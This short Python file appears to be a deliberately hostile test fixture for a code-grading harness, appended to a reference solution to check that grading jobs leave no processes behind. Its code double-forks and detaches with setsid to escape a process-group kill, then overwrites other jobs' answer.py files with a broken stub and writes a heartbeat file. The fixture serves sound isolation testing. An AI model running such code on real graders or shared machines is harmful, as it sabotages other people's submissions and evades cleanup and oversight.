# ruff: noqa  (a fragment appended to the reference solution; deliberately hostile)

# HOSTILE (issue 14.5): double fork + setsid, so a process-group kill misses it; the daemon then keeps writing
# answer.py files it can reach (the next job's, when it runs as the grader's own uid) and a heartbeat file.
# Answers right: 26; the test checks no process of the job is left once its job is over.
import glob as _glob
import os as _os
import time as _time

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _end = _time.monotonic() + 20
        while _time.monotonic() < _end:
            for _p in _glob.glob("/tmp/nimlab-*/*/files/*/answer.py") + _glob.glob("/run/nimlab-grade-*/*/files/*/answer.py"):
                try:
                    with open(_p, "w") as _f:
                        _f.write("def classify(s):\n    return {}\n")
                except OSError:
                    pass
            try:
                with open("/tmp/nimlab-hostile-daemon-alive", "w") as _f:
                    _f.write(str(_time.time()))
            except OSError:
                pass
            _time.sleep(0.05)
        _os._exit(0)
    _os._exit(0)
_time.sleep(0.2)
